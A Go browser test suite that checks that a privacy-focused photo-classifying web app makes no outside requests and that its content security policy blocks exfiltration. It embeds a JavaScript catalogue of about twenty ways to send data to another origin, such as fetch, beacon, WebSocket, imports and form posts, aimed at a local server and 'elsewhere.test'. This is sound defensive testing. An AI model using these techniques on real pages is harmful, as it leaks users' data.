package test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// install visits the page until the service worker answers its requests.
func (p *page) install(s *site) {
	p.t.Helper()
	p.run(chromedp.Navigate(s.URL))
	p.waitFor(`navigator.serviceWorker.controller && document.querySelector("meta[content=\"connect-src 'none'\"]")`)
}

// requests returns what the proxy saw since it was asked last, without what
// Chromium asks for itself, whatever the page.
func (p *page) requests() []string {
	var list []string
	for _, request := range chromium.proxy.take() {
		host, _, _ := strings.Cut(request, " ")
		if !strings.HasSuffix(host, ".google.com:443") && !strings.HasSuffix(host, ".googleapis.com:443") {
			list = append(list, request)
		}
	}
	return list
}

type traffic struct {
	Network, Device, Foreign int
	Requests                 []struct {
		URL, From string
		Network   bool
	}
	Violations []struct{ Directive, Blocked, From string }
}

// TestTraffic compares what ecor.js counts with what a proxy sees: on a visit
// without a service worker, and when the site is on the device.
func TestTraffic(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	p.bare(s)
	p.load(`{ workers: 2 }`)
	p.do(`photos(6).then((files) => Promise.all(files.map((file) => ecor.classify(file))))`)
	var got traffic
	var seen []string
	require.Eventually(t, func() bool { // entries come a little later than answers
		got, seen = eval[traffic](p, `requestsSinceLoad()`), append(seen, p.requests()...)
		return got.Network == len(seen)
	}, 10*time.Second, 100*time.Millisecond, "proxy: %v\necor: %+v", seen, got.Requests)
	assert.Zero(t, got.Foreign)
	count := map[string]int{}
	for _, request := range seen {
		_, path, _ := strings.Cut(request, " ")
		count[path]++
	}
	assert.Equal(t, 1, count["/"+s.assets.Weights], "two workers fetch the weights once")
	assert.Equal(t, 1, count["/"+s.assets.Module]+count["/"+s.assets.Relaxed], "and one of the modules")

	p.install(s)
	p.requests()
	p.bare(s)
	p.load(`{ workers: 2 }`)
	p.do(`photos(6).then((files) => Promise.all(files.map((file) => ecor.classify(file))))`)
	got = eval[traffic](p, `requestsSinceLoad()`)
	assert.Zero(t, got.Network, "%+v", got.Requests)
	assert.Positive(t, got.Device)
	for _, request := range p.requests() {
		assert.True(t, strings.HasSuffix(request, " /sw.js"), request)
	}
}

// TestAirplaneMode ends the server after one visit: ecor.js loads and names a new photo.
func TestAirplaneMode(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	p.install(s)
	weights := 0
	for _, request := range p.requests() {
		if strings.HasSuffix(request, "/"+s.assets.Weights) {
			weights++
		}
	}
	assert.Equal(t, 1, weights, "the service worker takes what the first visit's worker has fetched")
	s.Server.CloseClientConnections()
	s.Server.Close()
	p.bare(s)
	p.load(`{ workers: 2 }`)
	assert.Contains(t, []string{"zebra", "sunset", "forest"}, eval[string](p, `photo(99).then((file) => outcome(ecor.classify(file)))`))
	for _, request := range p.requests() {
		assert.True(t, strings.HasSuffix(request, " /sw.js"), request)
	}
}

// attacks tries to reach another origin in every way that a script has, and
// returns the names of those that say they succeeded. Some say nothing.
const attacks = `(async (there) => {
	const succeeded = [];
	const late = () => new Promise((_, no) => setTimeout(no, 1000));
	const attack = async (name, f) => { try { if ((await Promise.race([f(), late()])) !== false) succeeded.push(name); } catch {} };
	const loads = (element, where = "src") => new Promise((ok, no) => { element.onload = ok; element.onerror = no; element[where] = there + "/" + element.tagName; document.head.append(element); });
	await attack("fetch", () => fetch(there + "/fetch", { mode: "no-cors", method: "POST", body: "a photo" }));
	await attack("request", () => new Promise((ok, no) => { const r = new XMLHttpRequest(); r.onload = ok; r.onerror = no; r.open("POST", there + "/xhr"); r.send("a photo"); }));
	await attack("socket", () => new Promise((ok, no) => { const s = new WebSocket(there.replace("http", "ws") + "/socket"); s.onopen = ok; s.onerror = no; }));
	await attack("events", () => new Promise((ok, no) => { const s = new EventSource(there + "/events"); s.onopen = ok; s.onerror = () => { s.close(); no(); }; }));
	await attack("import", () => import(there + "/import.js"));
	await attack("worker", () => new Promise((ok, no) => { const w = new Worker(there + "/worker.js"); w.onmessage = ok; w.onerror = no; }));
	await attack("blob worker", () => new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = ok; w.onerror = no; }));
	await attack("eval", () => eval("1"));
	await attack("function", () => new Function("return 1")());
	if (!globalThis.document) {
		await attack("importScripts", () => importScripts(there + "/import.js"));
		return succeeded;
	}
	const make = (tag) => document.createElement(tag);
	navigator.sendBeacon(there + "/beacon", "a photo"); // true means queued
	await attack("image", () => loads(new Image()));
	await attack("stylesheet", () => loads(Object.assign(make("link"), { rel: "stylesheet" }), "href"));
	await attack("preload", () => loads(Object.assign(make("link"), { rel: "preload", as: "image" }), "href"));
	await attack("prefetch", () => loads(Object.assign(make("link"), { rel: "prefetch" }), "href"));
	await attack("script", () => loads(make("script")));
	await attack("frame", () => { make("iframe").srcdoc = "x"; });
	await attack("remote frame", () => { const f = make("iframe"); f.src = there + "/frame"; document.body.append(f); return false; });
	await attack("object", () => { const o = make("object"); o.data = there + "/object"; document.body.append(o); return false; });
	await attack("video", () => new Promise((ok, no) => { const v = make("video"); v.onloadeddata = ok; v.onerror = no; v.src = there + "/video"; }));
	await attack("font", () => new FontFace("x", "url(" + there + "/font)").load());
	await attack("background", () => { document.body.style.backgroundImage = "url(" + there + "/background)"; return false; });
	await attack("markup", () => { document.body.innerHTML = "<img src=" + there + "/markup>"; });
	await attack("form", () => { const f = make("form"); f.method = "post"; f.action = there + "/form"; document.body.append(f); f.submit(); return false; });
	await attack("ping", () => { const a = make("a"); a.href = "#"; a.ping = there + "/ping"; document.body.append(a); a.click(); return false; });
	await new Promise((r) => setTimeout(r, 300));
	return succeeded;
})(%q)`

// evalDenied runs JavaScript that the page's policy keeps from using eval.
func evalDenied[T any](p *page, script string) T {
	p.t.Helper()
	v, err := chromedp.Run(p.ctx, chromedp.Evaluate[T](script, chromedp.EvalAwaitPromise, func(e *runtime.EvaluateParams) {
		e.AllowUnsafeEvalBlockedByCSP = new(bool)
	}))
	p.check(err)
	return v
}

// TestAttacks injects scripts into an installed page and into its worker: none
// reaches anything, and what the policy stopped is reported.
func TestAttacks(t *testing.T) {
	var reached atomic.Int32
	there := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	defer there.Close()
	s := tinySite(t)
	p := newPage(t)
	p.install(s)
	p.bare(s)
	p.load(`{ workers: 1 }`)
	p.requests()
	// Those of the first visit's page have to end before.
	require.Eventually(t, func() bool { return len(p.workerTargets()) == 1 }, 20*time.Second, 50*time.Millisecond)
	worker := p.workers()[0]

	for _, origin := range []string{there.URL, "http://elsewhere.test", s.URL} {
		assert.Empty(t, evalDenied[[]string](worker, fmt.Sprintf(attacks, origin)), "in the worker, to %s", origin)
	}
	for _, origin := range []string{there.URL, "http://elsewhere.test"} {
		assert.Empty(t, evalDenied[[]string](p, fmt.Sprintf(attacks, origin)), "in the page, to %s", origin)
	}
	assert.Zero(t, reached.Load())
	for _, request := range p.requests() {
		assert.True(t, strings.HasSuffix(request, " /sw.js"), request)
	}

	p.waitFor(`requestsSinceLoad().network === 0`) // reports of what was stopped may come after what they are about
	got := eval[traffic](p, `requestsSinceLoad()`)
	stopped := map[string]bool{}
	for _, v := range got.Violations {
		stopped[v.From+" "+v.Directive] = true
	}
	for _, want := range []string{
		"page connect-src", "page img-src", "page script-src-elem", "page style-src-elem", "page frame-src", "page font-src", "page form-action",
		"page require-trusted-types-for", "worker connect-src", "worker script-src-elem", "worker require-trusted-types-for",
	} {
		assert.True(t, stopped[want], "%s is reported; reported are %v", want, stopped)
	}
}

// TestAttacksOnFirstVisit injects scripts into the review page and its worker
// before the service worker is there: none reaches another site, and the panel
// shows what was stopped.
func TestAttacksOnFirstVisit(t *testing.T) {
	var reached atomic.Int32
	there := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	defer there.Close()
	s, release := slowSite(t)
	p := newPage(t)
	p.view(1400, 900, "light")
	p.run(chromedp.Navigate(s.URL))
	p.waitFor(`document.querySelector("#loading-text")?.textContent === "Starting the engine…"`)
	require.False(t, eval[bool](p, `navigator.serviceWorker.controller !== null || document.querySelector("meta[content=\"connect-src 'none'\"]") !== null`))
	worker := p.workers()[0]
	for _, origin := range []string{there.URL, "http://elsewhere.test"} {
		assert.Empty(t, evalDenied[[]string](worker, fmt.Sprintf(attacks, origin)), "in the worker, to %s", origin)
		assert.Empty(t, evalDenied[[]string](p, fmt.Sprintf(attacks, origin)), "in the page, to %s", origin)
		socket := strings.Replace(origin, "http", "ws", 1) + "/socket"
		p.waitBlocked(
			origin+"/fetch (page, connect-src)",
			socket+" (page, connect-src)",
			origin+"/beacon (page, connect-src)",
			origin+"/IMG (page, img-src)",
			origin+"/import.js (page, script-src-elem)",
			origin+"/form (page, navigate)",
			origin+"/fetch (worker, connect-src)",
			socket+" (worker, connect-src)",
		)
	}
	assert.Zero(t, reached.Load())
	for _, request := range p.requests() {
		assert.True(t, strings.HasPrefix(request, strings.TrimPrefix(s.URL, "http://")+" "), request)
	}
	require.False(t, eval[bool](p, `navigator.serviceWorker.controller !== null`), "it was the first visit to the end")
	assert.Equal(t, "0", p.fact("another site"), "what was stopped is not counted as made")
	assert.Equal(t, "false", eval[string](p, `document.querySelector("#privacy-open").dataset.alarm`))
	p.click("#privacy-open")
	p.do(`document.querySelector("details:has(#blocked)").open = true`)
	p.waitFor(`document.getAnimations().length === 0`)
	p.save("blocked")
	p.do(`document.querySelector("#privacy").close()`)

	// The page goes on as if nothing had been.
	release()
	p.waitReady()
	p.choose(threePhotos(t)...)
	assert.Contains(t, p.tiles()[0], "because")
}

// fact returns a figure of the privacy panel by a part of its name.
func (p *page) fact(name string) string {
	p.t.Helper()
	return eval[string](p, fmt.Sprintf(`[...document.querySelectorAll("#traffic dt")].find((e) => e.textContent.includes(%q)).nextElementSibling.textContent`, name))
}

// waitBlocked waits until the privacy panel lists each of these attempts among the latest.
func (p *page) waitBlocked(lines ...string) {
	p.t.Helper()
	var listed []string
	for end := time.Now().Add(waitTimeout / 6); ; p.run(chromedp.Sleep(frame)) {
		listed = p.texts("#blocked li")
		missing := slices.DeleteFunc(slices.Clone(lines), func(line string) bool { return slices.Contains(listed, line) })
		if len(missing) == 0 {
			return
		}
		if time.Now().After(end) {
			require.Fail(p.t, "not among what was blocked", "%v\nlisted: %v", missing, listed)
		}
	}
}

// TestBlockedOnce: an attempt is counted once, however many policies stop it.
func TestBlockedOnce(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	attempt := func(path string) {
		t.Helper()
		p.do(fmt.Sprintf(`fetch("http://elsewhere.test/%s").catch(() => undefined)`, path))
		p.waitBlocked("http://elsewhere.test/" + path + " (page, connect-src)")
	}
	times := func(path string) (n int) {
		for _, line := range p.texts("#blocked li") {
			if strings.Contains(line, "/"+path+" ") {
				n++
			}
		}
		return n
	}
	p.open(s.URL)
	for _, visit := range []string{"first", "second"} { // by the policy of the server, then by that of the service worker
		attempt("one")
		attempt("one")
		attempt("two")
		assert.Equal(t, "3", p.fact("blocked"), visit)
		assert.Equal(t, []int{2, 1}, []int{times("one"), times("two")}, visit)
		p.reload()
	}
}

// TestWaysOut tries, in the page, the ways that no policy covers.
func TestWaysOut(t *testing.T) {
	s := tinySite(t)
	p := newPage(t)
	p.install(s)
	p.requests()
	p.do(`(async () => {
		const there = "http://elsewhere.test/";
		location.href = there + "location";
		location.replace(there + "replace");
		const link = document.createElement("a");
		link.href = there + "link";
		document.body.append(link);
		link.click();
		const meta = document.createElement("meta");
		meta.httpEquiv = "refresh";
		meta.content = "0; url=" + there + "refresh";
		document.head.append(meta);
		await new Promise((r) => setTimeout(r, 500));
	})()`)
	assert.Equal(t, s.URL+"/", eval[string](p, `location.href`))
	assert.Equal(t, []any{nil, "undefined", "TypeError"}, eval[[]any](p, `(() => {
		const named = (f) => { try { f(); return ""; } catch (e) { return e.name; } };
		return [window.open("http://elsewhere.test/open"), typeof RTCPeerConnection, named(() => Object.defineProperty(window, "open", { value: 1 }))];
	})()`))
	for _, request := range p.requests() {
		require.True(t, strings.HasSuffix(request, " /sw.js"), request)
	}
}
